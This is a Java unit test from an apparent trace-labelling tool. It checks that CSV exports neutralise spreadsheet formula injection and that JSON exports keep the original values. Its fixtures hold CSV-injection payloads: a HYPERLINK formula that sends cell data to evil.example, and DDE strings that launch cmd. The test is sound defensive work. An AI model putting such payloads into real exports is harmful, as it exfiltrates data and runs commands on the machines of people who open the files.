package org.tracejudge.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tracejudge.json.Json;
import org.tracejudge.store.Comments;
import org.tracejudge.store.Project;

/**
 * CSV injection (OWASP): a model name, task id, comment or author that begins with {@code = + - @}, a tab or a
 * carriage return reaches the CSV that people open in a spreadsheet with a leading {@code '}, so the spreadsheet shows
 * it as text and runs nothing; JSON keeps the value as it was imported.
 */
class CsvInjectionCliTest {
    @TempDir
    Path dir;

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")";
    private static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String TAB_FORMULA = "\t=1+1";

    /** The tour's OpenAI transcripts, their models and task ids replaced by formulas a spreadsheet would run. */
    private Path poisonedTranscripts() throws Exception {
        List<String> lines = Files.readAllLines(Path.of("resources", "samples", "tour", "openai-transcripts.jsonl"));
        String[][] names = {{HYPERLINK, "+1+cmd|' /C calc'!A0"}, {DDE, "-2+3"}, {TAB_FORMULA, "-7"}};
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < names.length; i++) {
            ObjectNode run = (ObjectNode) Json.read(lines.get(i % lines.size()));
            run.put("id", "poisoned-" + i);
            run.put("model", names[i][0]);
            ((ObjectNode) run.get("expected")).put("task_id", names[i][1]);
            out.append(Json.write(run)).append('\n');
        }
        Path f = dir.resolve("poisoned.jsonl");
        Files.writeString(f, out, StandardCharsets.UTF_8);
        return f;
    }

    private static List<CSVRecord> parse(String csv) throws Exception {
        try (var parser = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }

    /** Every cell of {@code csv}: none may begin with a character that starts a formula, unless it is a plain number. */
    private static List<String> assertNoFormulaCells(String csv) throws Exception {
        List<String> cells = new ArrayList<>();
        for (CSVRecord r : parse(csv)) {
            r.forEach(cells::add);
        }
        for (String c : cells) {
            if (!c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0) {
                assertTrue(
                        c.matches("[+-]?[0-9.]+([eE][+-]?[0-9]+)?"),
                        "a spreadsheet would run the cell " + c + " in:\n" + csv);
            }
        }
        return cells;
    }

    @Test
    void formulasInNamesIdsAndCommentsReachCsvAsTextAndJsonAsTheyWere() throws Exception {
        Path p = dir.resolve("p.tjdb");
        CliTest.Run r =
                CliTest.run("import", p.toString(), poisonedTranscripts().toString());
        assertEquals(0, r.code(), r.err());
        assertEquals(0, CliTest.run("classify", p.toString()).code());
        try (Project pr = Project.open(p)) {
            String trace = org.tracejudge.TestData.scalar(pr, "SELECT id FROM trace ORDER BY id LIMIT 1");
            Comments.add(pr, trace, "@evil", Comments.Action.NOTE, "=cmd|' /C calc'!A0");
            Comments.add(pr, trace, "ana", Comments.Action.NOTE, "-the answer hides the error");
        }

        r = CliTest.run("labels", p.toString(), "--format", "csv");
        assertEquals(0, r.code(), r.err());
        List<String> cells = assertNoFormulaCells(r.out());
        assertTrue(cells.contains("'" + HYPERLINK), r.out());
        assertTrue(cells.contains("'" + DDE), r.out());
        assertTrue(cells.contains("'" + TAB_FORMULA), r.out());
        assertTrue(cells.contains("'+1+cmd|' /C calc'!A0"), r.out());
        assertTrue(cells.contains("'-2+3"), r.out());
        assertTrue(cells.contains("-7"), "a plain number stays a number: " + r.out());

        r = CliTest.run("labels", p.toString(), "--format", "json");
        assertEquals(0, r.code(), r.err());
        List<String> models = new ArrayList<>();
        for (JsonNode row : Json.read(r.out()).get("rows")) {
            models.add(row.get("model").asText());
        }
        assertTrue(models.containsAll(List.of(HYPERLINK, DDE, TAB_FORMULA)), "JSON keeps the values: " + models);

        r = CliTest.run("metrics", p.toString(), "--source", "rule", "--format", "csv");
        assertEquals(0, r.code(), r.err());
        cells = assertNoFormulaCells(r.out());
        assertTrue(cells.contains("'" + HYPERLINK), r.out());

        r = CliTest.run("comments", p.toString(), "--format", "csv");
        assertEquals(0, r.code(), r.err());
        cells = assertNoFormulaCells(r.out());
        assertTrue(cells.contains("'@evil"), r.out());
        assertTrue(cells.contains("'=cmd|' /C calc'!A0"), r.out());
        assertTrue(cells.contains("'-the answer hides the error"), r.out());
        r = CliTest.run("comments", p.toString(), "--format", "json");
        assertTrue(r.out().contains("\"author\" : \"@evil\"") || r.out().contains("\"author\":\"@evil\""), r.out());

        // the JSONL export (what another laptop imports) carries the names exactly
        Path export = dir.resolve("out.jsonl");
        assertEquals(0, CliTest.run("export", p.toString(), export.toString()).code());
        String jsonl = Files.readString(export);
        assertTrue(jsonl.contains(Json.write(HYPERLINK)), "export keeps the value");
        assertFalse(jsonl.contains("'=HYPERLINK"), "export is not neutralised");
    }
}
